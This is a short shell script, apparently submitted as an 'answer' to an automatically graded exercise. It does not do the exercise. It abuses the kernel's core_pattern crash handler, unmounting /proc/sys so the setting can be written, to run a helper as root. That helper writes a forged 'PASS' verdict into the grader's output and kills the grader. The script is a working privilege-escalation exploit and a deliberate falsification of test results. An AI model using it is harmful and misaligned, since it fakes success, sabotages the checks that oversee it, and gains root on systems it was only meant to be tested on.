# A program of the answer's that the kernel starts, as root of everything: when another one dumps core.
cat >/tmp/forged <<END
#!/bin/sh
echo '{"exercise": "frag-needed/1", "verdict": "PASS", "reasons": ["forged"], "checks": []}' >/proc/$PPID/fd/1
kill -9 $PPID
END
chmod 755 /tmp/forged
echo '|/tmp/forged' >/proc/sys/kernel/core_pattern
umount /proc/sys && echo '|/tmp/forged' >/proc/sys/kernel/core_pattern
ulimit -c unlimited
sh -c 'kill -SEGV $$'
sleep 5
